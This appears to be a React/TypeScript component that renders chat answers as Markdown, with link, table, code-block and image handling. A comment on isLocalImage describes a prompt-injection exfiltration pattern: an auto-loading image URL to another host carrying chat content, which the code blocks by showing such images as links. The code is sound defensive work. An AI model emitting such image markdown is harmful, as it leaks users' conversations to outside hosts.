import * as React from 'react';
import ReactMarkdown, { defaultUrlTransform, type Components } from 'react-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { cn } from '@/lib/utils';
import { CodeBlock } from './code-block';
import { StatusIcon, rehypeStatusIcons, type StatusKind } from './status-icons';

/**
 * GFM for reading only: remark-gfm also registers GFM's markdown writer (mdast-util-to-markdown
 * and its handlers), which rendering never calls, ~6 KiB gzipped on the chat route (ADR 0011).
 */
function remarkGfmParse(this: { data: () => object }): void {
  // The keys remark-parse reads (its types declare them; it is react-markdown's, not ours).
  const data = this.data() as {
    micromarkExtensions?: unknown[];
    fromMarkdownExtensions?: unknown[];
  };
  (data.micromarkExtensions ??= []).push(gfm());
  (data.fromMarkdownExtensions ??= []).push(gfmFromMarkdown());
}

const plugins = [remarkGfmParse];
const rehypePlugins = [rehypeStatusIcons];

/**
 * Whether an image may load by itself: same-origin (relative or this host), data:image or blob:.
 * Anything else would let a prompt-injected `![](https://host/p.png?d=...)` send chat content
 * to another host with no click, so it is shown as a link instead.
 */
export function isLocalImage(src: string | undefined): boolean {
  if (!src) return false;
  if (/^data:image\//i.test(src) || /^blob:/i.test(src)) return true;
  try {
    const base = window.location.href;
    return new URL(src, base).origin === new URL(base).origin;
  } catch {
    return false;
  }
}

// react-markdown's defaultUrlTransform blanks data: and blob:; images keep them (checked above).
function urlTransform(url: string, key: string): string {
  if (key === 'src' && (/^data:image\//i.test(url) || /^blob:/i.test(url))) return url;
  return defaultUrlTransform(url);
}

// Typography for rendered markdown (no typography plugin in the build): compact, chat-sized.
const markdownClass = [
  'text-sm leading-relaxed break-words',
  '[&>:first-child]:mt-0 [&>:last-child]:mb-0 [&_p]:my-2',
  '[&_h1]:mt-4 [&_h1]:mb-2 [&_h1]:text-lg [&_h1]:font-semibold',
  '[&_h2]:mt-4 [&_h2]:mb-2 [&_h2]:text-base [&_h2]:font-semibold',
  '[&_h3]:mt-3 [&_h3]:mb-1.5 [&_h3]:font-semibold',
  '[&_ul]:my-2 [&_ul]:list-disc [&_ul]:pl-5 [&_ol]:my-2 [&_ol]:list-decimal [&_ol]:pl-5 [&_li]:my-0.5',
  '[&_.contains-task-list]:list-none [&_.contains-task-list]:pl-1 [&_input]:mr-1.5 [&_input]:align-middle',
  '[&_a]:text-primary [&_a]:underline [&_a]:underline-offset-2',
  '[&_code]:rounded [&_code]:bg-muted [&_code]:px-1 [&_code]:py-0.5 [&_code]:text-[0.85em]',
  '[&_pre]:my-2 [&_pre]:overflow-x-auto [&_pre]:rounded-md [&_pre]:bg-muted [&_pre]:p-3 [&_pre_code]:bg-transparent [&_pre_code]:p-0',
  '[&_table]:w-full [&_table]:border-collapse [&_table]:text-left [&_table]:text-[0.85rem]',
  '[&_th]:border-b [&_th]:bg-muted/60 [&_th]:px-2.5 [&_th]:py-1.5 [&_th]:font-medium',
  '[&_td]:border-b [&_td]:px-2.5 [&_td]:py-1.5 [&_td]:align-top',
  '[&_blockquote]:my-2 [&_blockquote]:border-l-2 [&_blockquote]:pl-3 [&_blockquote]:text-muted-foreground',
  '[&_hr]:my-4 [&_img]:max-w-full [&_img]:rounded-md',
  '[&_.footnotes]:mt-4 [&_.footnotes]:border-t [&_.footnotes]:pt-2 [&_.footnotes]:text-xs [&_.footnotes]:text-muted-foreground',
].join(' ');

/** A fenced block's code and language, from the <pre><code class="language-x"> markdown makes. */
function fencedCode(
  children: React.ReactNode,
): { code: string; language: string | undefined } | null {
  const child = React.Children.toArray(children)[0];
  if (!React.isValidElement<{ className?: string; children?: React.ReactNode }>(child)) return null;
  const language = /language-([\w+-]+)/.exec(child.props.className ?? '')?.[1];
  const code = React.Children.toArray(child.props.children).join('').replace(/\n$/, '');
  return { code, language };
}

// Links open in a new tab and never hand the opener over, except links within the answer
// (footnotes), which jump to their place; tables scroll sideways on phones, in a region a
// keyboard can focus and scroll; fenced code gets a copy button and (lazily) syntax highlighting.
function componentsFor(streaming: boolean): Components {
  return {
    a: ({ node: _node, ...props }) =>
      props.href?.startsWith('#') ? (
        <a {...props} />
      ) : (
        <a {...props} target="_blank" rel="noopener noreferrer" />
      ),
    img: ({ node: _node, src, alt, ...props }) => {
      const url = typeof src === 'string' ? src : undefined;
      if (isLocalImage(url)) return <img src={url} alt={alt ?? ''} {...props} />;
      if (!url) return alt ? <span>{alt}</span> : null;
      return (
        <a href={url} target="_blank" rel="noopener noreferrer">
          {alt || url}
        </a>
      );
    },
    // A task list's checkbox (read-only) says what it shows: it has no label of its own.
    input: ({ node: _node, ...props }) =>
      props.type === 'checkbox' ? (
        <input {...props} aria-label={props.checked ? 'Done' : 'Not done'} />
      ) : (
        <input {...props} />
      ),
    // Status emoji, marked by rehypeStatusIcons: icons with a name, whatever the fonts.
    span: ({ node: _node, ...props }) => {
      const status = (props as Record<string, unknown>)['data-status-icon'] as
        StatusKind | undefined;
      return status ? <StatusIcon kind={status} /> : <span {...props} />;
    },
    table: ({ node: _node, ...props }) => (
      <div
        className="my-3 w-full overflow-x-auto rounded-sm focus-visible:ring-[3px] focus-visible:ring-ring/50 focus-visible:outline-none"
        role="region"
        aria-label="Table"
        tabIndex={0}
      >
        <table {...props} />
      </div>
    ),
    pre: ({ node: _node, children, ...props }) => {
      const fenced = fencedCode(children);
      return fenced ? (
        <CodeBlock code={fenced.code} language={fenced.language} streaming={streaming} />
      ) : (
        <pre {...props}>{children}</pre>
      );
    },
  };
}
const components = componentsFor(false);
const streamingComponents = componentsFor(true);

/**
 * Markdown of spec section 1: links, tables, task lists, footnotes (GFM). Schemes other
 * than http, https, irc, ircs, mailto and xmpp are blanked by react-markdown's
 * defaultUrlTransform (images may also be data:image or blob:); images from other origins
 * become links (see isLocalImage).
 * Memoised on the text: a finished message is parsed once, not on every render of the list.
 */
export const Markdown = React.memo(function Markdown({
  text,
  className,
  streaming = false,
}: {
  text: string;
  className?: string;
  /** Still being written: code blocks wait for the end before they are highlighted. */
  streaming?: boolean;
}) {
  // Footnote ids of their own: two answers on one page each have a footnote 1.
  const id = React.useId().replace(/[^\w-]/g, '');
  const rehypeOptions = React.useMemo(() => ({ clobberPrefix: `md${id}-` }), [id]);
  return (
    <div className={cn(markdownClass, className)}>
      <ReactMarkdown
        remarkPlugins={plugins}
        remarkRehypeOptions={rehypeOptions}
        rehypePlugins={rehypePlugins}
        urlTransform={urlTransform}
        components={streaming ? streamingComponents : components}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
});
